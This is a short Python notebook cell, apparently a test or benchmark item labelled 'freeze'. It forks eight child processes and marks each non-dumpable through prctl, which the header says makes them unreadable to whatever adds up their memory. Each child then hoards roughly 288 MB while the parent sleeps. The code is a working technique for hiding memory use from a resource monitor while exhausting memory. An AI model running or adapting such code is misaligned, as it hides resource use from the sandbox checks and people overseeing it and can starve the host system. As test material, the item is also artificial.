# %% [markdown]
# Makes its processes unreadable to whoever adds up their memory, then asks for memory in many of them.
# %% question="freeze"
import ctypes
import os
import time


def freeze(module):
    libc = ctypes.CDLL(None)
    for _ in range(8):
        if os.fork() == 0:
            libc.prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE
            hoard = [b"\1" * (16 << 20) for _ in range(18)]
            time.sleep(20)
            os._exit(len(hoard))
    time.sleep(20)
    return module
